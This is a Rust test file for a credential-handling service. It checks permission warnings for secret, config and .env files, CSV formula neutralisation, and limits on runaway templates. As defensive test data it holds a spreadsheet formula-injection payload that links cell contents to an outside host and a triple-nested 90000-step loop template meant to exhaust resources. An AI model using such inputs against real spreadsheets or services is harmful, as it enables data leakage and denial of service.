//! Files that hold what is nobody else's: their modes, and what a spreadsheet makes of them; and templates that hardly end.

use std::fs::Permissions;
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::certificates::Authority;
use crate::mails::mailer::section;
use crate::operator::process::{Process, Run, ends, ready, says};
use crate::world::{Plan, World};

/// A secret in a file of this mode for each key that a worker takes from one.
fn with_files(world: &World, arguments: &[&str], mode: u32) -> Run {
    let url = format!("url = {:?}\n", world.amqp_url);
    let secret = "client_secret = \"demo-secret\"\n";
    let (files, paths) = testkit::process::Configured::files(world);
    let mut run = Run::new(arguments);
    for path in paths {
        let text = std::fs::read_to_string(path).unwrap();
        assert!(text.contains(&url) || text.contains(secret) || text.contains("[wire]"), "{text}");
        let text = text
            .replace(&url, "url_file = \"url\"\nmanagement_url_file = \"management\"\n")
            .replace(secret, "client_secret_file = \"client\"\n");
        run = run.config(&text);
    }
    drop(files);
    run = run.config("[http]\ntoken_file = \"token\"\nproxy_file = \"proxy\"\n");
    run = run.config("[mailer.http]\nurl_file = \"service\"\ntoken_file = \"bearer\"\n");
    run = run.config("[mailer.smtp]\nuser = \"u\"\npassword_file = \"login\"\n");
    for (name, text) in [
        ("url", world.amqp_url.as_str()),
        ("management", "http://u:x@127.0.0.1:1"), // asked by check, and not there
        ("client", "demo-secret"),
        ("token", "5c0e9fb1d73a42c68e17b4f09a2d6c83"),
        ("proxy", "http://u:x@127.0.0.1:1"), // none is used for this machine
        ("service", "https://mail.example.com/send?key=x"),
        ("bearer", "x"),
        ("login", "x"),
    ] {
        let path = run.file(name, text);
        std::fs::set_permissions(path, Permissions::from_mode(mode)).unwrap();
    }
    run
}

/// All but `amqp.client_key_file`, which wants a broker with TLS.
const KEYS: [&str; 8] = [
    "amqp.url_file",
    "amqp.management_url_file",
    "orgs.main.client_secret_file",
    "http.token_file",
    "http.proxy_file",
    "mailer.http.url_file",
    "mailer.http.token_file",
    "mailer.smtp.password_file",
];

/// What a command that needs no broker logs at its start, and what `check` finds; whether either warns of these keys at this path.
async fn warned_of(run: impl Fn(&[&str]) -> Run, keys: &str, path: &str) -> [bool; 2] {
    let (_, _, log) = run(&["--log", "json", "mailer", "--preview", "samples"]).end().await;
    let (_, out, _) = run(&["check"]).end().await;
    let logged = format!("\"{keys}: others on this machine can read this secret");
    let is_logged = log.lines().any(|line| line.contains(&logged) && line.contains(&format!("{path}\"")));
    let found = format!(" {keys} ");
    let is_found = out.lines().any(|line| {
        line.starts_with("warn") && line.contains("secret file") && line.contains(&found) && line.contains(path)
    });
    let others = log.matches("can read this secret").count() + out.matches("secret file").count();
    assert_eq!(others, usize::from(is_logged) + usize::from(is_found), "{log}{out}");
    assert!(!log.contains("s3cret") && !out.contains("s3cret"), "{log}{out}");
    [is_logged, is_found]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_secret_file_that_others_can_read_is_warned_of_at_the_start_and_by_check() {
    let world = Plan::new().prepare().await;
    for (mode, warned) in [(0o640, true), (0o604, true), (0o600, false), (0o400, false)] {
        let mut worker: Process = with_files(&world, &["--log", "json", "worker"], mode).start();
        ready(&worker.http().await).await;
        assert_eq!(worker.terminated().await.0, 0);
        let log = worker.stderr();
        for key in KEYS {
            let said = format!("\"{key}: others on this machine can read this secret");
            assert_eq!(log.contains(&said), warned, "{key} {mode:o}: {log}");
        }
        let (_, out, _) = with_files(&world, &["check"], mode).end().await;
        for key in KEYS {
            let is_warned = out.lines().any(|line| {
                line.starts_with("warn") && line.contains("secret file") && line.contains(&format!(" {key} "))
            });
            assert_eq!(is_warned, warned, "{key} {mode:o}: {out}");
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_key_of_a_client_certificate_that_others_can_read_is_warned_of_at_the_start_and_by_check() {
    let authority = Authority::new();
    let (certificate, key) = authority.issue("worker", "DNS:worker", "2");
    let tls = format!(
        "[amqp]\nurl = \"amqps://127.0.0.1:1\"\nclient_cert_file = {certificate:?}\nclient_key_file = {key:?}\n"
    );
    for (mode, warned) in [(0o640, true), (0o604, true), (0o600, false)] {
        std::fs::set_permissions(&key, Permissions::from_mode(mode)).unwrap();
        let run = |arguments: &[&str]| Run::new(arguments).config(&section(25)).config(&tls);
        let path = key.to_str().unwrap();
        assert_eq!(warned_of(run, "amqp.client_key_file", path).await, [warned; 2], "{mode:o}");
    }
}

/// A secret need not stand in a file of its own.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_config_or_env_file_that_holds_a_secret_and_that_others_can_read_is_warned_of_with_its_keys() {
    let secrets = "[amqp]\nurl = \"amqp://u:s3cret@127.0.0.1:1/%2f\"\n\
        [http]\ntoken = \"5c0e9fb1d73a42c68e17b4f09a2d6c83\"\nproxy = \"http://u:s3cret@proxy.invalid:1\"\n\
        [mailer.http]\ntoken = \"s3cret\"\nurl = \"https://u:s3cret@mail.invalid\"\n\
        [mailer.smtp]\nuser = \"u\"\npassword = \"s3cret\"\n\
        [orgs.main]\ntoken_url = \"http://127.0.0.1:1/\"\nscim_url = \"http://127.0.0.1:1/\"\nclient_id = \"x\"\nclient_secret = \"s3cret\"\n";
    let keys = "amqp.url, http.proxy, http.token, mailer.http.token, mailer.http.url, mailer.smtp.password, \
        orgs.main.client_secret";
    let none = "[amqp]\nurl = \"amqp://127.0.0.1:1/%2f\"\n[http]\ntoken = \"\"\nproxy = \"env\"\n\
        [orgs.main]\nclient_secret_file = \"/nowhere\"\n";
    for (text, mode, warned) in
        [(secrets, 0o644, true), (secrets, 0o640, true), (secrets, 0o600, false), (none, 0o644, false)]
    {
        let run = |arguments: &[&str]| {
            let run = Run::new(&[&["--config", "own.toml"], arguments].concat()).config(&section(25));
            let path = run.file("own.toml", text);
            std::fs::set_permissions(path, Permissions::from_mode(mode)).unwrap();
            run
        };
        assert_eq!(warned_of(run, keys, "own.toml").await, [warned; 2], "{mode:o} {text}");
    }

    let secrets = "GENESYS_CLIENT_SECRET=s3cret\nEMAIL_SERVICE_URL=https://u:s3cret@mail.invalid\nHTTPS_PROXY=u:s3cret@proxy\n\
        RESETD__ORGS__MAIN__CLIENT_SECRET=s3cret\nRESETD__AMQP__URL=amqp://u:s3cret@127.0.0.1:1\nRESETD__HTTP__LISTEN=127.0.0.1:0\n";
    let keys =
        "GENESYS_CLIENT_SECRET, EMAIL_SERVICE_URL, HTTPS_PROXY, RESETD__ORGS__MAIN__CLIENT_SECRET, RESETD__AMQP__URL";
    let none =
        "GENESYS_CLIENT_ID=s3cret\nRESETD__HTTP__TOKEN=\nRESETD__AMQP__URL=amqp://127.0.0.1:1\nHTTPS_PROXY=proxy\n";
    for (text, mode, warned) in [(secrets, 0o644, true), (secrets, 0o600, false), (none, 0o644, false)] {
        let run = |arguments: &[&str]| {
            let run = Run::new(arguments).config("[mailer]\nfrom = \"a@example.com\"\n");
            let path = run.file(".env", text);
            std::fs::set_permissions(path, Permissions::from_mode(mode)).unwrap();
            run
        };
        assert_eq!(warned_of(run, keys, "/.env").await, [warned; 2], "{mode:o} {text}");
    }
}

/// `check` opens nothing, and a mailer warns of its own.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_key_that_opens_notifications_and_that_others_can_read_is_found_by_check_too() {
    for (mode, warned) in [(0o644, true), (0o600, false)] {
        let run = Run::new(&["check"])
            .config("[amqp]\nurl = \"amqp://127.0.0.1:1\"\n[mailer]\nopen_with = [\"mail.key.pem\"]\n");
        let path = run.file("mail.key.pem", "no key");
        std::fs::set_permissions(path, Permissions::from_mode(mode)).unwrap();
        let (_, out, _) = run.end().await;
        assert_eq!(out.contains("secret file") && out.contains("mailer.open_with mail.key.pem"), warned, "{out}");
    }
}

/// Who may write there says where the client's secret and the passwords go.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_config_file_that_others_may_change_is_warned_of_at_the_start_and_by_check() {
    for (file, folder, warned) in
        [(0o666, 0o700, true), (0o664, 0o700, true), (0o644, 0o777, true), (0o644, 0o755, false)]
    {
        let run = |arguments: &[&str]| {
            let run = Run::new(&[&["--config", "in/own.toml"], arguments].concat()).config(&section(25));
            let inside = run.file("in", "").with_file_name("in");
            std::fs::remove_file(&inside).unwrap();
            std::fs::create_dir(&inside).unwrap();
            let path = run.file("in/own.toml", "[amqp]\nurl = \"amqp://127.0.0.1:1\"\n");
            std::fs::set_permissions(path, Permissions::from_mode(file)).unwrap();
            std::fs::set_permissions(inside, Permissions::from_mode(folder)).unwrap();
            run
        };
        let (_, _, log) = run(&["--log", "json", "mailer", "--preview", "samples"]).end().await;
        let said = "so that somebody else may say where the client's secret and the passwords go";
        assert_eq!(log.contains(said) && log.contains("in/own.toml"), warned, "{file:o} {folder:o}: {log}");
        let (_, out, _) = run(&["check"]).end().await;
        assert_eq!(out.contains("config file") && out.contains(said), warned, "{file:o} {folder:o}: {out}");
    }
}

/// systemd gives a service copies of mode 0440, whose access control list names the service alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_credential_of_systemds_is_warned_of_only_where_everybody_can_read_it() {
    let world = Plan::new().prepare().await;
    for (mode, warned) in [(0o440, false), (0o444, true)] {
        let run = with_files(&world, &["check"], mode);
        let folder = run.file("token", "5c0e9fb1d73a42c68e17b4f09a2d6c83");
        std::fs::set_permissions(&folder, Permissions::from_mode(mode)).unwrap();
        let token = format!("[http]\ntoken_file = {:?}\n", folder.display().to_string());
        let credentials = folder.parent().unwrap().display().to_string();
        let (_, out, _) = run.config(&token).env("CREDENTIALS_DIRECTORY", &credentials).end().await;
        let is_warned = out.lines().any(|line| line.starts_with("warn") && line.contains(" http.token_file "));
        assert_eq!(is_warned, warned, "{mode:o}: {out}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_file_of_those_that_failed_is_private_has_no_formula_and_is_read_as_it_was() {
    let mut world = Plan::new().start().await;
    let refuses = json!({"status": 400, "always": true, "user": "refused"});
    world.main().add_fault(serde_json::from_value(refuses).unwrap());
    let title = "=HYPERLINK(\"http://elsewhere/\"&A1)";
    let run = Run::of(&world, &["enqueue", "agents.csv", "--batch", "one", "--wait", "--failed", "failed.csv"]);
    let csv = "userId,email,title,department\nrefused,@refused@example.com,\"=HYPERLINK(\"\"http://elsewhere/\"\"&A1)\",'+49 quoted\n";
    run.file("agents.csv", &csv.replace("@refused@", "refused@"));
    let failed = run.file("failed.csv", "what stood there before");
    std::fs::set_permissions(&failed, Permissions::from_mode(0o666)).unwrap();
    let mut process = run.start();
    assert_eq!(process.ended().await, 1, "{}", process.stderr());
    let written = std::fs::read_to_string(&failed).unwrap();
    assert_eq!(std::fs::metadata(&failed).unwrap().permissions().mode() & 0o777, 0o600);
    let mut rows = csv::Reader::from_reader(written.as_bytes());
    let row = rows.records().next().unwrap().unwrap();
    assert_eq!((&row[0], &row[2], &row[3]), ("refused", format!("'{title}").as_str(), "'+49 quoted"), "{written}");

    world.stop_worker().await.unwrap();
    let again = Run::of(&world, &["enqueue", "again.csv", "--batch", "two"]);
    again.file("again.csv", &written);
    let (code, _, said) = again.end().await;
    assert_eq!(code, 0, "{said}");
    let sent = world.drained("resets.main.bulk").await;
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].json()["attributes"], json!({"title": title, "department": "+49 quoted"}));
}

#[tokio::test]
async fn a_template_that_hardly_ends_ends_the_preview_with_its_name() {
    let began = Instant::now();
    let run =
        Run::new(&["mailer", "--preview", "samples"]).config(&section(25)).config("[mailer]\ntemplates = \"mails\"\n");
    let folder = run.file("x", "").with_file_name("mails");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("subject.txt"), "Hello").unwrap();
    let body = "{% for a in range(90000) %}{% for b in range(90000) %}{% for c in range(90000) %}{% endfor %}{% endfor %}{% endfor %}{{ password }}";
    std::fs::write(folder.join("body.txt"), body).unwrap();
    let said = ends(run, 2, &["body.txt", "steps"]).await;
    says(&said, &["it takes more than 100000 steps"]);
    assert!(began.elapsed() < Duration::from_secs(30), "{:?}", began.elapsed());
}
